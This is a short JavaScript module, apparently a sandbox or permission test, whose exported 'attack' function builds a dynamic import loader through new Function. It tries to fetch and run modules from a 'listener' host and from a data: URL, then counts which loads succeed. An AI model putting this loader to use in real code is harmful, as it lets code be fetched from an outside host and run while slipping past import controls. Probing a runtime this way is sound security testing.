import { listener } from "./listener";

/** Code from elsewhere, by the engine's own import. */
export async function attack() {
  const load = new Function("url", "return import(url)");
  const results = await Promise.allSettled([
    load(`${listener}/import.js`),
    load(`${listener}/run/import.js`),
    load("data:text/javascript,export default 1"),
  ]);
  console.log(`arrived: ${results.filter(({ status }) => status === "fulfilled").length}`);
}
